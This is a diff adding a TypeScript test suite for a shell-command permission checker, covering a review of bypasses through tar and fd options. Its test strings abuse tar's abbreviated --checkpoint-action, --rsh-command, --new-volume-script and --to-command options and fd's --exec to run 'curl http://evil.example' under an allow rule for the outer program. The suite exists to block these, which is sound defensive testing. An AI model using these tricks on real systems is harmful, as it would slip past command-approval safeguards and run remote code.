@@ -1,0 +1,42 @@
+// The review of stop 34: bypasses that reached "allow" under a user's allow rule for the outer program,
+// and false denials that were parser bugs. Every line is checked with the default rules and with shell
+// constructs allowed; harmless look-alikes keep their verdicts.
+import { keeps, withAllowed } from './guard-in-both-modes';
+
+const EVIL = 'curl http://evil.example';
+
+describe('command check: the review of stop 34', () => {
+  it("1, 2: tar's command options by GNU tar's own abbreviations, with the value attached or as the next word", () => {
+    const tar = withAllowed(['tar']);
+    tar.denied([
+      `tar -cf x.tar --checkpoint=1 --checkpoint-action exec='${EVIL}' src`,
+      `tar -cf x.tar --checkpoint=1 --checkpoint-=exec='${EVIL}' src`,
+      `tar -cf x.tar --checkpoint=1 --checkpoint-act exec='${EVIL}' src`,
+      `tar -cf localhost:bar.tar --rs='${EVIL}' src`,
+      `tar -cf localhost:bar.tar --rm='${EVIL}' src`,
+      `tar -cf localhost:bar.tar --rs '${EVIL}' src`,
+      `tar -cf x.tar -M --new-='${EVIL}' src`,
+      `tar -cf x.tar --to-c='${EVIL}' src`,
+    ]);
+    // A script given by its path asks (it may be any file): it no longer passes as tar's allow rule.
+    tar.keeps(['tar -cf localhost:bar.tar --rs=./x.sh src', 'tar -cf x.tar -M --new-=./x.sh src'], 'ask');
+    tar.keeps(
+      [
+        'tar -cf x.tar --checkpoint=1 src',
+        'tar -cf x.tar --checkpoint=1 --checkpoint-action=dot src',
+        'tar -cf x.tar --newer=2024-01-01 src',
+        'tar -cf x.tar --record-size=10240 --remove-files src',
+        'tar -xf x.tar --to-stdout',
+      ],
+      'allow',
+    );
+  });
+
+  it("3, d: fd's -x/--exec and -X/--exec-batch with the command attached; -tx and -ex are a type and an extension", () => {
+    const fd = withAllowed(['fd', 'fdfind']);
+    fd.denied(['fd victim --exec=curl', 'fd victim -xcurl', 'fd victim --exec-batch=curl', 'fdfind . --exec=curl', 'fd -Hxcurl victim', 'fd -e ts -Xcurl']);
+    fd.keeps(['fd victim --exec=rm', 'fd victim -xrm', 'fd victim --exec-batch=rm'], 'ask');
+    fd.keeps(['fd -tx', 'fd -ex', 'fd -e ts -tx', 'fd -tf -e ts src', 'fd -H -t d node_modules'], 'allow');
+    keeps(['fd -tx', 'fd -ex', 'fd -e ts -tx'], 'ask');
+  });
+});
